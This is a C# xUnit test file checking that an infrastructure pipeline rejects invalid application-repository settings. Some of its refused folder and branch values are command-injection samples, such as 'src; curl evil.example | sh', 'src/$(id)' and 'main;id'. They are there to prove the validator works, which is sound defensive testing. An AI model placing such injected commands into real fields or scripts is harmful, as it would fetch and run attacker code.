using Infra.Contracts.Identities;
using Infra.Contracts.Problems;
using Infra.Pipelines.Applications;

namespace Infra.Pipelines.Tests.Applications;

public sealed class ApplicationCheckTests
{
    private static readonly ApplicationOptions Well = ApplicationRepository.OnGitHub;

    [Theory]
    [InlineData("prod")]
    [InlineData("staging")]
    public void Environment_of_the_estate_takes_hotfixes(string environment) =>
        Assert.NotEmpty(ApplicationRepository.Render(Well with { HotfixEnvironment = environment }));

    [Fact]
    public void Environment_that_the_estate_lacks_is_refused() => Assert.Equal(
        ["INFRA3122 Application repository: HotfixEnvironment \"prd\" is not one of the estate's: dev, staging, prod. Did you mean \"prod\"?"],
        Refused(Well with { HotfixEnvironment = "prd" }));

    [Fact]
    public void Estate_on_another_forge_is_refused() => Assert.Equal(
        ["INFRA3120 Application repository: It and the estate's repository are on different forges. Give the repository of the estate on the same forge: the bot of one can't sign in to the other."],
        Refused(Well with { Estate = ApplicationRepository.OnGitLab.Estate }));

    [Fact]
    public void Repository_without_a_project_is_refused() => Assert.Equal(
        ["INFRA3121 Application repository: It has no project. Add at least one."], Refused(Well with { Projects = [] }));

    [Theory]
    [InlineData("src/Api")]
    [InlineData(".")]
    [InlineData("services/api.v2")]
    public void Folder_of_a_repository_is_taken(string folder) =>
        Assert.NotEmpty(ApplicationRepository.Render(Well with { Projects = [ApplicationRepository.Api with { Folder = folder }] }));

    [Theory]
    [InlineData("/src/Api")]
    [InlineData("src/Api/")]
    [InlineData("../estate")]
    [InlineData("-rf")]
    [InlineData("src; curl evil.example | sh")]
    [InlineData("src/$(id)")]
    [InlineData("")]
    public void Folder_that_is_none_is_refused(string folder) => Assert.Equal(
        [$"INFRA3121 Project api: Folder \"{folder}\" is not a folder of a repository. Write it as src/Api: letters, digits and . _ - /, without a / at either end."],
        Refused(Well with { Projects = [ApplicationRepository.Api with { Folder = folder }] }));

    [Fact]
    public void Project_that_is_described_twice_is_refused() => Assert.Equal(
        ["INFRA3121 Project api: It is declared twice. Remove one of them."],
        Refused(Well with { Projects = [ApplicationRepository.Api, ApplicationRepository.Api with { Folder = "other" }] }));

    [Fact]
    public void Application_that_can_not_be_is_refused() => Assert.Equal(
        ["INFRA3102 Application: Name \"Api\" is not allowed: 2 to 30 lower-case letters, digits or single hyphens, the first a letter. Correct the name."],
        Refused(Well with { Projects = [ApplicationRepository.Api with { Application = new() { Name = "Api", Artifact = "ghcr.io/lynx/lynx-api" } }] }));

    [Fact]
    public void Default_branch_that_a_script_would_run_is_refused() => Assert.Equal(
        ["INFRA3123 Application repository: Default branch \"main;id\" is not a plain name. Use letters, digits and . _ - / only: scripts contain it."],
        Refused(Well with { Repository = (GitHubRepository)Well.Repository with { DefaultBranch = "main;id" } }));

    private static IEnumerable<string> Refused(ApplicationOptions options) =>
        Assert.Throws<InfraException>(() => ApplicationRepository.Render(options)).Problems.Select(problem => problem.ToString());
}
